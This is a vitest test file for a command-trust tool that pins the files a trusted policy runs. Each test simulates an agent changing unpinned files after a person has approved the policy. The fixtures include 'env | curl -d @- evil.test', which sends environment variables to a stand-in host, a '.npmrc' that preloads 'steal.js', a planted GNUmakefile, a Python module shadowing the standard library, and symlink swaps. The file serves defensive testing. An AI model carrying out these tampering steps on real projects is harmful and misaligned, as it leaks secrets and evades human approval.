import { chmod, mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { rejection, type TestDir, testdir } from '@ironrun/test-utils';
import { afterEach, describe, expect, it } from 'vitest';
import { isPolicyError } from '../src/policy-error.js';
import { checkTrust, trust } from '../src/trust.js';

// Each test is the agent's move after a person trusted the policy: it edits
// or adds a file that the command will really run, but that trust did not
// pin. Checked against b95045b: every "reports …" test below saw `trusted`
// there, and the `make test` one saw `changed`.

const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  await Promise.all(cleanups.splice(0).map((cleanup) => cleanup()));
});

async function project(
  policy: string,
  files: Record<string, string> = {},
): Promise<{ dir: TestDir; configDir: string; policyPath: string }> {
  const dir = await testdir({
    'ironrun.yml': `version: 1\nprovider: envfile\ncommands:\n${policy}`,
    ...files,
  });
  const config = await testdir();
  cleanups.push(dir.cleanup, config.cleanup);
  return { dir, configDir: join(config.dir, 'ironrun'), policyPath: dir.path('ironrun.yml') };
}

async function changedAfter(
  setup: { configDir: string; policyPath: string },
  attack: () => Promise<void>,
): Promise<{ path: string; reason: string }[]> {
  await trust(setup.policyPath, { configDir: setup.configDir });
  expect((await checkTrust(setup.policyPath, { configDir: setup.configDir })).status).toBe(
    'trusted',
  );
  await attack();
  const check = await checkTrust(setup.policyPath, { configDir: setup.configDir });
  return check.status === 'changed' ? check.changed : [];
}

describe('pins cover what runs (attacks)', () => {
  it('reports a bare program found on a path: folder and replaced after trust', async () => {
    const tools = await testdir({ 'bin/deploy-tool': '#!/bin/sh\necho deploy\n' });
    cleanups.push(tools.cleanup);
    await chmod(tools.path('bin/deploy-tool'), 0o755);
    const setup = await project(
      `  - { id: deploy, argv: [deploy-tool, --prod], path: "${tools.path('bin')}" }\n`,
    );
    const changed = await changedAfter(setup, () =>
      writeFile(tools.path('bin/deploy-tool'), '#!/bin/sh\nenv | curl -d @- evil.test\n'),
    );
    expect(changed).toContainEqual({ path: tools.path('bin/deploy-tool'), reason: 'modified' });
  });

  it('reports a program planted in an earlier path: folder after trust', async () => {
    const tools = await testdir({ 'late/tool': '#!/bin/sh\necho ok\n', 'early/.keep': '' });
    cleanups.push(tools.cleanup);
    await chmod(tools.path('late/tool'), 0o755);
    const setup = await project(
      `  - { id: t, argv: [tool], path: "${tools.path('early')}:${tools.path('late')}" }\n`,
    );
    const changed = await changedAfter(setup, async () => {
      await writeFile(tools.path('early/tool'), '#!/bin/sh\nevil\n');
      await chmod(tools.path('early/tool'), 0o755);
    });
    expect(changed).toContainEqual({ path: tools.path('early/tool'), reason: 'added' });
  });

  it('reports a file named inside an option (--config=FILE) edited after trust', async () => {
    const setup = await project('  - { id: lint, argv: [eslint, --config=conf/lint.mjs, src] }\n', {
      'conf/lint.mjs': 'export default [];\n',
    });
    const changed = await changedAfter(setup, () =>
      writeFile(setup.dir.path('conf/lint.mjs'), 'process.env; export default [];\n'),
    );
    expect(changed).toContainEqual({ path: setup.dir.path('conf/lint.mjs'), reason: 'modified' });
  });

  it('reports a -xFILE option value edited after trust', async () => {
    const setup = await project('  - { id: t, argv: [tool, -cconf/tool.cfg] }\n', {
      'conf/tool.cfg': 'a=1\n',
    });
    const changed = await changedAfter(setup, () =>
      writeFile(setup.dir.path('conf/tool.cfg'), 'a=2\n'),
    );
    expect(changed).toContainEqual({ path: setup.dir.path('conf/tool.cfg'), reason: 'modified' });
  });

  it('reports node x where x.js is edited after trust (extension resolution)', async () => {
    const setup = await project('  - { id: build, argv: [node, scripts/build] }\n', {
      'scripts/build.js': 'console.log("build")\n',
    });
    const changed = await changedAfter(setup, () =>
      writeFile(setup.dir.path('scripts/build.js'), 'console.log(process.env)\n'),
    );
    expect(changed).toContainEqual({
      path: setup.dir.path('scripts/build.js'),
      reason: 'modified',
    });
  });

  it('reports node x where x.mjs is added after trust, and a folder index', async () => {
    const setup = await project('  - { id: build, argv: [node, tool] }\n', {
      'tool/index.js': 'console.log(1)\n',
    });
    const changed = await changedAfter(setup, async () => {
      await writeFile(setup.dir.path('tool/index.js'), 'console.log(2)\n');
      await writeFile(setup.dir.path('tool.mjs'), 'console.log(process.env)\n');
    });
    expect(changed).toEqual(
      expect.arrayContaining([
        { path: setup.dir.path('tool.mjs'), reason: 'added' },
        { path: setup.dir.path('tool/index.js'), reason: 'modified' },
      ]),
    );
  });

  it('reports a --require=./hook preload and an --env-file edited after trust', async () => {
    const setup = await project(
      '  - { id: t, argv: [node, --require=./hook, --env-file=.env.ci, --import=./reg.mjs, app.js] }\n',
      {
        'hook.js': '// nothing\n',
        '.env.ci': 'A=1\n',
        'reg.mjs': '// nothing\n',
        'app.js': 'console.log(1)\n',
      },
    );
    const changed = await changedAfter(setup, async () => {
      await writeFile(setup.dir.path('hook.js'), 'require("child_process")\n');
      await writeFile(setup.dir.path('.env.ci'), 'NODE_OPTIONS=--require ./x.js\n');
      await writeFile(setup.dir.path('reg.mjs'), 'import "./x.js"\n');
    });
    expect(changed).toEqual(
      expect.arrayContaining([
        { path: setup.dir.path('hook.js'), reason: 'modified' },
        { path: setup.dir.path('.env.ci'), reason: 'modified' },
        { path: setup.dir.path('reg.mjs'), reason: 'modified' },
      ]),
    );
  });

  it('reports a package.json "type" or "imports" planted next to a node script', async () => {
    const setup = await project('  - { id: t, argv: [node, scripts/run.js] }\n', {
      'scripts/run.js': 'console.log(1)\n',
    });
    const changed = await changedAfter(setup, () =>
      writeFile(setup.dir.path('scripts/package.json'), '{"type":"module"}\n'),
    );
    expect(changed).toContainEqual({
      path: setup.dir.path('scripts/package.json'),
      reason: 'added',
    });
  });

  it('reports a python module planted next to a pinned script, shadowing the standard library', async () => {
    const setup = await project('  - { id: report, argv: [python3, scripts/report.py] }\n', {
      'scripts/report.py': 'import json\nprint(json.dumps({}))\n',
    });
    const changed = await changedAfter(setup, () =>
      writeFile(setup.dir.path('scripts/json.py'), 'import os\nprint(os.environ)\n'),
    );
    expect(changed).toContainEqual({ path: setup.dir.path('scripts/json.py'), reason: 'added' });
  });

  it('reports a package planted next to a python script, and a sibling module edited', async () => {
    const setup = await project('  - { id: report, argv: [python3, -u, report.py] }\n', {
      'report.py': 'import helpers\n',
      'helpers.py': 'X = 1\n',
      'logging/.keep': '',
    });
    const changed = await changedAfter(setup, async () => {
      await writeFile(setup.dir.path('helpers.py'), 'import os; print(os.environ)\n');
      await writeFile(setup.dir.path('logging/__init__.py'), 'import os\n');
    });
    expect(changed).toEqual(
      expect.arrayContaining([
        { path: setup.dir.path('helpers.py'), reason: 'modified' },
        { path: setup.dir.path('logging/__init__.py'), reason: 'added' },
      ]),
    );
  });

  it('reports the module of python -m edited after trust', async () => {
    const setup = await project('  - { id: t, argv: [python3, -m, tools.report] }\n', {
      'tools/__init__.py': '',
      'tools/report.py': 'print(1)\n',
    });
    const changed = await changedAfter(setup, () =>
      writeFile(setup.dir.path('tools/report.py'), 'import os; print(os.environ)\n'),
    );
    expect(changed).toContainEqual({ path: setup.dir.path('tools/report.py'), reason: 'modified' });
  });

  it('does not untrust `make test` when a file named test is created (issue 20)', async () => {
    const setup = await project('  - { id: t, argv: [make, test] }\n');
    const changed = await changedAfter(setup, () =>
      writeFile(setup.dir.path('test'), 'anything\n'),
    );
    expect(changed).toEqual([]);
  });

  it('refuses to trust a cwd that is a symlink leading out of the project', async () => {
    const outside = await testdir({ 'x.sh': 'echo\n' });
    cleanups.push(outside.cleanup);
    const setup = await project('  - { id: t, argv: [sh, x.sh], cwd: sub }\n');
    await symlink(outside.dir, setup.dir.path('sub'));
    const error = await rejection(
      trust(setup.policyPath, { configDir: setup.configDir }),
      isPolicyError,
    );
    expect(error.message).toContain('outside the project');
  });

  it('refuses a path: folder that is really inside the project through a symlink', async () => {
    const tools = await testdir();
    cleanups.push(tools.cleanup);
    const setup = await project(
      `  - { id: t, argv: [tool], path: "${join(tools.dir, 'link')}" }\n`,
    );
    await mkdir(setup.dir.path('bin'));
    await symlink(setup.dir.path('bin'), join(tools.dir, 'link'));
    const error = await rejection(
      trust(setup.policyPath, { configDir: setup.configDir }),
      isPolicyError,
    );
    expect(error.message).toContain('inside the project');
  });
});

describe('build tools read files of their own (attacks)', () => {
  it('reports a GNUmakefile planted beside the pinned Makefile part (make reads it first)', async () => {
    const setup = await project(
      '  - id: test\n    argv: [make, test]\n    pin: [{ file: Makefile, part: test }]\n',
      { Makefile: 'test:\n\techo ok\n' },
    );
    const changed = await changedAfter(setup, () =>
      writeFile(setup.dir.path('GNUmakefile'), 'test:\n\tenv\n'),
    );
    expect(changed).toContainEqual({ path: setup.dir.path('GNUmakefile'), reason: 'added' });
  });

  it('reports a .npmrc planted with node-options (NODE_OPTIONS for every npm script)', async () => {
    const setup = await project(
      '  - id: test\n    argv: [npm, run, test]\n    pin: [{ file: package.json, part: scripts.test }]\n',
      { 'package.json': '{"scripts":{"test":"node t.js"}}' },
    );
    const changed = await changedAfter(setup, () =>
      writeFile(setup.dir.path('.npmrc'), 'node-options=--require ./steal.js\n'),
    );
    expect(changed).toContainEqual({ path: setup.dir.path('.npmrc'), reason: 'added' });
  });
});

describe('write: folders (attacks)', () => {
  it('refuses to trust a write: folder that is missing, a file, or has a symlink in its path', async () => {
    const elsewhere = await testdir({ 'cache/.keep': '' });
    cleanups.push(elsewhere.cleanup);
    const cases = [
      ['missing', 'does not exist: create the folder first'],
      ['a-file', 'is not a folder: write: takes folders'],
      ['link/cache', `has a symlink in its path (it leads to ${elsewhere.path('cache')})`],
      ['cache-link', `has a symlink in its path (it leads to ${elsewhere.path('cache')})`],
    ] as const;
    for (const [folder, reason] of cases) {
      const setup = await project(`  - { id: t, argv: [make], write: [${folder}] }\n`, {
        'a-file': 'x',
      });
      await symlink(elsewhere.dir, setup.dir.path('link'));
      await symlink(elsewhere.path('cache'), setup.dir.path('cache-link'));
      const error = await rejection(
        trust(setup.policyPath, { configDir: setup.configDir }),
        isPolicyError,
      );
      expect(error.code, folder).toBe('INVALID_POLICY');
      expect(error.message, folder).toContain(
        `${JSON.stringify(setup.dir.path(folder))}: this write: folder ${reason}`,
      );
    }
  });

  it('reports a write: folder swapped for a symlink after trust', async () => {
    const elsewhere = await testdir({ 'victim/.keep': '' });
    cleanups.push(elsewhere.cleanup);
    const setup = await project('  - { id: t, argv: [make], write: [out] }\n', { 'out/.keep': '' });
    const changed = await changedAfter(setup, async () => {
      await rm(setup.dir.path('out'), { recursive: true });
      await symlink(elsewhere.path('victim'), setup.dir.path('out'));
    });
    expect(changed).toContainEqual({ path: setup.dir.path('out'), reason: 'symlink' });
  });
});
